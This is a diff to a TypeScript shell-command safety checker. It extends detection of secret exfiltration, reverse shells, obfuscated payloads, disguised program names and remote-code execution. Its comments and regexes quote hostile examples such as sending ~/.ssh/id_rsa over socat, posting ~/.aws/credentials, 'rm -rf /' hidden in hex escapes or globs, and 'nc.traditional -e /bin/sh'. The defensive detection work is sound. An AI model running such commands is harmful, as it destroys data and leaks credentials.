@@ -3,7 +3,7 @@
 // send secrets away.
 import { hasOpt, operands, optValue } from "../argv.ts";
 import type { Cmd, Word } from "../command.ts";
-import { describeSource, type Source } from "../flow.ts";
+import { describeSource, isSecretFile, type Source } from "../flow.ts";
 import type { Judgement } from "../judgement.ts";
 import { HOME, INTERPRETERS, SHELLS, classifyPath, isSecretPath, normalizePath } from "../paths.ts";
 import { deleteRule } from "./fs.ts";
@@ -11,6 +11,9 @@ import { deleteRule } from "./fs.ts";
 /** `bash -c SCRIPT`, `bash <(…)`, `bash script.sh`. */
 export function shell(cmd: Cmd, j: Judgement) {
   const args = cmd.args;
+  // `bash < <(curl …)`: the program comes from the process substitution.
+  const fromSub = cmd.redirects.find((r) => r.op === "<" && r.target?.procSub);
+  if (fromSub?.target) return judgeSubstitutionScript(cmd, fromSub.target, j, "shell");
   const c = args.findIndex((w) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(w.text) && !w.text.startsWith("--"));
   if (c >= 0) {
     const script = args[c + 1];
@@ -131,7 +134,7 @@ export function interpreter(cmd: Cmd, j: Judgement) {
       return;
     }
   }
-  const file = operands(cmd)[0];
+  const file = operands(cmd)[0] ?? cmd.redirects.find((r) => r.op === "<" && r.target?.procSub)?.target ?? undefined;
   if (file?.procSub) judgeSubstitutionScript(cmd, file, j, "interpreter");
   else if (!file && cmd.stdinText != null) judgeInterpreterCode(cmd.name, cmd.stdinText, cmd.stdinWord ?? cmd, j, cmd);
 }
@@ -146,7 +149,8 @@ function serveFiles(cmd: Cmd, j: Judgement, rest: Word[]) {
     optValue({ ...cmd, args: rest }, ["-d"], ["--directory"]) ??
     (cmd.name === "php" ? optValue({ ...cmd, args: rest }, ["-t"], []) : undefined);
   const dir = dirWord?.text ?? cmd.cwd ?? ".";
-  const { cls } = classifyPath(dir, cmd.cwd);
+  const { cls, path } = classifyPath(dir, cmd.cwd);
+  if (isSecretPath(path)) return j.report("net.exfiltrate-secret", cmd.start, cmd.end);
   if (cls === "root" || cls === "home" || cls === "system") return j.report("net.serve-home", cmd.start, cmd.end);
   const bind =
     optValue({ ...cmd, args: rest }, ["-b"], ["--bind"])?.text ?? rest.find((w) => /^(127\.|localhost|\[::1\])/.test(w.text))?.text;
@@ -162,6 +166,17 @@ const DELETE_FILE = /\b(os\.remove|os\.unlink|unlinkSync|File\.delete|unlink|os\
 const SHELL_CALL =
   /\b(do shell script|os\.execute|io\.popen|os\.system|os\.popen|subprocess\.\w+|system|exec(?:Sync)?|spawn(?:Sync)?|shell_exec|passthru|popen|Popen|check_output|check_call|run)\s*\(?\s*(\[[^\]]*\]|(['"`])((?:\\.|(?!\3).)*)\3|qq?\{([^}]*)\}|qq?\(([^)]*)\))/g;
 
+/** Inline code that runs text as code or as a command. */
+const RUNS_TEXT =
+  /\b(exec|eval|system|popen|spawn|spawnSync|execSync|execFileSync|shell_exec|passthru|proc_open|Popen|call|check_call|check_output|run|Function|instance_eval|class_eval)\s*[(`]|\bexec\s+|\bsystem\s*\$|`|%x[({]|os\.system|subprocess|child_process|IO\.popen|Kernel\.|compile\s*\(/;
+
+/** Inline code that sends data to another host. */
+const SENDS_OVER_NETWORK =
+  /requests\.(post|put|patch|get)\s*\(|require\(\s*['"](https?|net|dgram|axios|node-fetch)['"]\s*\)|socket\.create_connection|urlopen\s*\(|urllib\.request\.Request|http\.client|httpx\.(post|put)|\.sendall?\s*\(|smtplib|ftplib|fetch\s*\(|axios\.(post|put)|https?\.request\s*\(|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|TCPSocket|fsockopen|curl_exec|file_get_contents\s*\(\s*['"]https?:[^)]*\.|Invoke-(WebRequest|RestMethod)|socket\.connect/;
+/** The whole environment read from inside the program (one variable sent to its own service is normal). */
+const DUMPS_ENVIRONMENT =
+  /\b(str|dict|repr|json\.dumps)\s*\(\s*os\.environ\s*\)|os\.environ\.(items|copy)\s*\(|JSON\.stringify\s*\(\s*process\.env\s*\)|ENV\.(to_h|to_a|inspect)\b|\\?%ENV\b|getenv\(\s*\)/;
+
 /**
  * Inline programs are not shell, so this reads them for behaviour instead of
  * parsing them: fork loops, recursive deletes of home or /, shell commands
@@ -172,8 +187,8 @@ export function judgeInterpreterCode(lang: string, code: string, span: { start: 
   if (/\bfork\b/.test(code) && /\b(while|loop|for|until)\b|\{\s*fork|fork\s*\)\s*while|fork\s+while/.test(code))
     j.report("exec.fork-bomb", span.start, span.end);
   if (
-    /socket|fsockopen|TCPSocket|IO::Socket|net\.connect|new\s+net\.Socket|\/inet\/(tcp|udp)\//i.test(code) &&
-    /dup2|pty\.spawn|\/bin\/(ba|z)?sh|subprocess|exec\s*\(|open3|spawn\(|popen|system\s*\(|proc_open|shell_exec|\|&\s*getline|cmd\.exe/i.test(
+    /socket|fsockopen|TCPSocket|IO::Socket|net\.connect|new\s+net\.Socket|require\(\s*['"]net['"]\s*\)|\/inet\/(tcp|udp)\//i.test(code) &&
+    /dup2|pty\.spawn|\/bin\/(ba|z)?sh|subprocess|exec\s*\(|open3|spawn\(|popen|system\s*\(|system\s*\$_|fdopen|proc_open|shell_exec|\|&\s*getline|cmd\.exe/i.test(
       code,
     )
   )
@@ -187,6 +202,13 @@ export function judgeInterpreterCode(lang: string, code: string, span: { start: 
       span.start,
       span.end,
     );
+  // Secrets read and sent: `requests.post(url, data=open("~/.aws/credentials").read())`, `urlopen(url, data=str(os.environ))`.
+  if (SENDS_OVER_NETWORK.test(code)) {
+    const secretFile = [...code.matchAll(/(?<![:\w/.@-])[~/.][\w./@-]*/g)].some((m) =>
+      isSecretPath(normalizePath(m[0].replace(/^~/, HOME), cmd.cwd)),
+    );
+    if (secretFile || DUMPS_ENVIRONMENT.test(code)) j.report("net.exfiltrate-secret", span.start, span.end);
+  }
   // Payloads hidden as hex or base64 inside the code: decode and judge them.
   for (const m of code.matchAll(
     /pack\(\s*["']H\*["']\s*,\s*["']([0-9a-fA-F]+)["']|bytes\.fromhex\(\s*["']([0-9a-fA-F]+)["']|(?:b64decode|base64_decode|atob|decode64)\(\s*b?["']([A-Za-z0-9+/=]+)["']|Buffer\.from\(\s*["']([A-Za-z0-9+/=]+)["']\s*,\s*["']base64["']/g,
@@ -194,6 +216,8 @@ export function judgeInterpreterCode(lang: string, code: string, span: { start: 
     const text =
       (m[1] ?? m[2]) ? Buffer.from((m[1] ?? m[2])!, "hex").toString("utf8") : Buffer.from((m[3] ?? m[4])!, "base64").toString("utf8");
     if (!/^[\x09\x0a\x0d\x20-\x7e]+$/.test(text)) continue;
+    // Only a payload that is run hides anything: `print(b64decode('aGk='))` just prints.
+    if (!RUNS_TEXT.test(code)) continue;
     j.report("exec.obfuscated", span.start, span.end);
     j.nested(text, span, undefined, { asRoot: cmd.asRoot });
   }
@@ -218,7 +242,14 @@ export function judgeInterpreterCode(lang: string, code: string, span: { start: 
       script = items.join(" ");
     }
     if (script) {
-      const found = j.nested(script.replace(/\\(["'\\])/g, "$1"), span, undefined, { asRoot: cmd.asRoot });
+      // Escapes in the program's string literal (`os.system("\x72\x6d -rf /")`) are decoded by the language.
+      const unescaped = script
+        .replace(/\\x([0-9a-fA-F]{2})|\\u([0-9a-fA-F]{4})|\\([0-7]{3})/g, (_, x, u, o) =>
+          String.fromCharCode(Number.parseInt(x ?? u ?? o, x || u ? 16 : 8)),
+        )
+        .replace(/\\(["'\\])/g, "$1");
+      if (unescaped !== script.replace(/\\(["'\\])/g, "$1")) j.report("exec.obfuscated", span.start, span.end);
+      const found = j.nested(unescaped, span, undefined, { asRoot: cmd.asRoot });
       if (found.length === 0) j.report("exec.interpreter-code", span.start, span.end);
     }
   }
@@ -261,6 +292,13 @@ export function netcat(cmd: Cmd, j: Judgement) {
   if (cmd.name === "socat") {
     if (/\b(exec|system):/i.test(text) && /\b(tcp|udp|openssl|ssl)[46]?(-\w+)?:/i.test(text))
       j.report("net.reverse-shell", cmd.start, cmd.end);
+    // `socat -u FILE:~/.ssh/id_rsa TCP:host:port`: a file address sent to a network address.
+    else if (/\b(tcp|udp|openssl|ssl)[46]?(-connect)?:/i.test(text)) {
+      const file = cmd.args.find(
+        (w) => /^(file|open|gopen|create):/i.test(w.text) && isSecretFile(w.text.replace(/^\w+:/, "").split(",")[0]!, cmd),
+      );
+      if (file) j.reportWord("net.exfiltrate-secret", file);
+    }
     return;
   }
   // `-e /bin/sh`, `-c bash`: the connection drives a shell (bind or reverse shell).
@@ -272,7 +310,7 @@ export function netcat(cmd: Cmd, j: Judgement) {
     return j.report("net.listen", cmd.start, cmd.end);
   }
   if (hasOpt(cmd, "l", "--listen")) j.report("net.listen", cmd.start, cmd.end);
-  const input = cmd.redirects.find((r) => r.op === "<" && r.target && isSecretPath(normalizePath(r.target.text, cmd.cwd)));
+  const input = cmd.redirects.find((r) => r.op === "<" && r.target && isSecretFile(r.target.text, cmd));
   if (input) j.report("net.exfiltrate-secret", cmd.start, cmd.end);
 }
 
@@ -303,7 +341,7 @@ export function upload(cmd: Cmd, j: Judgement) {
     const v = value.text;
     const file =
       opt === "-T" || opt === "--upload-file" || opt === "--post-file" || opt === "--body-file" ? v : /[@<]([^;,]+)/.exec(v)?.[1];
-    if (file && file !== "-" && isSecretPath(normalizePath(file, cmd.cwd))) return j.reportWord("net.exfiltrate-secret", value);
+    if (file && file !== "-" && isSecretFile(file, cmd)) return j.reportWord("net.exfiltrate-secret", value);
   }
 }
 
@@ -313,7 +351,10 @@ export function scp(cmd: Cmd, j: Judgement) {
   if (!ops.some((w) => /^[^/]*:/.test(w.text))) return;
   for (const w of ops.slice(0, -1)) {
     const { cls, path } = classifyPath(w.text, cmd.cwd);
-    if (isSecretPath(path) || (cls === "home" && hasOpt(cmd, "r"))) return j.reportWord("net.copy-secret", w);
+    if (isSecretPath(path) || isSecretFile(w.text, cmd)) return j.reportWord("net.copy-secret", w);
+    // A whole home folder (keys and all) to another host: private data out, but often a backup.
+    if (cls === "home" && (hasOpt(cmd, "r", "--recursive") || (cmd.name === "rsync" && hasOpt(cmd, "a", "--archive"))))
+      return j.reportWord("net.upload-private", w);
   }
 }
 
@@ -368,6 +409,8 @@ export function judgeScriptSource(
 ) {
   if (src.remote) {
     j.report(src.remote.insecure ? "exec.remote-code-insecure" : "exec.remote-code", span.start, span.end, src.remote.url);
+    // Downloaded and decoded before it runs: hidden twice over.
+    if (src.decoded) j.report("exec.obfuscated", span.start, span.end);
     return;
   }
   if (src.history) return j.report("exec.history-replay", span.start, span.end);
@@ -402,8 +445,15 @@ export function runsDownloaded(cmd: Cmd, j: Judgement) {
   if (SHELLS.has(cmd.name) || INTERPRETERS.has(cmd.name) || /^python[\d.]*$/.test(cmd.name) || cmd.name === "source" || cmd.name === ".") {
     const first = operands(cmd, ["-o", "-O", "+O", "-m", "-W", "-X"])[0];
     if (first && !hasOpt(cmd, "c")) candidates.push(first);
+    // `sh < install.sh`
+    for (const r of cmd.redirects) if (r.op === "<" && r.target && !first) candidates.push(r.target);
   }
   if (/^(dpkg|rpm|installer|apt|apt-get|msiexec|open|hdiutil)$/.test(cmd.name)) candidates.push(...operands(cmd, ["-target"]));
+  // `java -jar app.jar`
+  if (cmd.name === "java") {
+    const jar = optValue(cmd, ["-jar"], []);
+    if (jar) candidates.push(jar);
+  }
   for (const w of candidates) {
     const path = normalizePath(w.text, cmd.cwd);
     // A script this command line wrote a moment ago: judge what it holds.
@@ -416,4 +466,95 @@ export function runsDownloaded(cmd: Cmd, j: Judgement) {
     if (src)
       return j.report(src.insecure ? "exec.remote-code-insecure" : "exec.remote-code", cmd.start, cmd.end, `downloaded from ${src.url}`);
   }
+}
+
+// ---- program names spelled to hide them ------------------------------------------
+
+/** Programs worth trying when a name is a glob (`/???/r? -rf /`) or an alias (`nc.traditional`). */
+const DISGUISED = [
+  "rm",
+  "dd",
+  "shred",
+  "wipefs",
+  "mkfs",
+  "chmod",
+  "chown",
+  "mv",
+  "nc",
+  "ncat",
+  "bash",
+  "sh",
+  "curl",
+  "wget",
+  "python3",
+  "perl",
+  "kill",
+  "reboot",
+  "shutdown",
+  "crontab",
+  "truncate",
+  "find",
+];
+
+function globRegex(glob: string): RegExp | undefined {
+  if (!/[*?[]/.test(glob) || glob.length > 40) return undefined;
+  const src = glob
+    .replace(/[.+^${}()|\\]/g, "\\$&")
+    .replace(/\*/g, ".*")
+    .replace(/\?/g, ".");
+  try {
+    return new RegExp(`^${src}$`);
+  } catch {
+    return undefined;
+  }
+}
+
+/**
+ * A program whose name is hidden: printed by a decoder (`$(echo cm0g… | base64 -d) …`), looked up
+ * (`$(which rm) -rf /`, `$(command -v nc)`), matched by a glob (`/???/r? -rf /`) or a distribution's
+ * alias (`nc.traditional -e /bin/sh …`). Judged as the program it names.
+ */
+export function disguisedProgram(cmd: Cmd, j: Judgement) {
+  const w0 = cmd.argv[0];
+  if (!w0) return;
+  const as = (name: string) => {
+    const argv = [{ ...w0, text: name, dynamic: false, glob: false, subs: [] }, ...cmd.args];
+    return j.judge({ ...cmd, name, argv, args: cmd.args });
+  };
+  const sub = w0.subs[w0.subs.length - 1];
+  if (sub?.length) {
+    const src = describeSource(sub, sub.length);
+    if (src.decoded) j.reportWord("exec.obfuscated", w0);
+    const s0 = sub[0]!;
+    const look = s0.argv[0]?.text === "command" ? s0.argv.slice(1) : s0.args;
+    if (sub.length === 1 && /^(which|whereis|type|command)$/.test(s0.argv[0]?.text ?? s0.name)) {
+      const prog = look.filter((w) => !w.text.startsWith("-")).pop();
+      if (prog && !prog.dynamic && cmd.name === "") return void as(prog.text.split("/").pop()!);
+    }
+    // The substitution printed a whole command line: judge it with the rest of the words.
+    if (!w0.dynamic && /\S\s+\S/.test(w0.text.trim())) {
+      const rest = cmd.args.map((w) => (/^[\w./=:@%+-]+$/.test(w.text) ? w.text : `'${w.text.replace(/'/g, "'\\''")}'`));
+      j.nested([w0.text.trim(), ...rest].join(" "), w0);
+      return;
+    }
+  }
+  // A glob naming one dangerous program (`/???/r?`), not one that matches anything (`*`).
+  const base = w0.text.split("/").pop() ?? "";
+  if (w0.glob && !w0.quoted && /[a-z]/.test(base)) {
+    const re = globRegex(base);
+    const names = re ? DISGUISED.filter((n) => re.test(n)) : [];
+    if (names.length === 1 && as(names[0]!).length) return void j.reportWord("exec.obfuscated", w0);
+  }
+  // `r$@m -rf /`, `r${X}m`: unset expansions inside a name that otherwise spells a dangerous program.
+  if (cmd.name === "" && w0.dynamic && !w0.subs.length) {
+    const bare = w0.text.replace(/[\uE000\uE001]/g, "");
+    if (bare !== w0.text && DISGUISED.includes(bare) && /^[a-z]/.test(w0.text) && as(bare).length)
+      return void j.reportWord("exec.obfuscated", w0);
+  }
+  // PowerShell's `iex (irm URL)` pasted into a POSIX shell: the parenthesised expression is not an argument
+  // here, so `iex` seems to have none; Elixir's `iex` REPL really has none.
+  if (/^(iex|invoke-expression)$/i.test(cmd.name) && cmd.args.length === 0 && cmd.end > w0.end + 1)
+    return void j.report("exec.powershell-eval", cmd.start, cmd.end);
+  const alias = /^(nc|netcat|ncat)[.-](traditional|openbsd|nmap)$|^netcat-(traditional|openbsd)$/.exec(cmd.name);
+  if (alias) as("nc");
 }
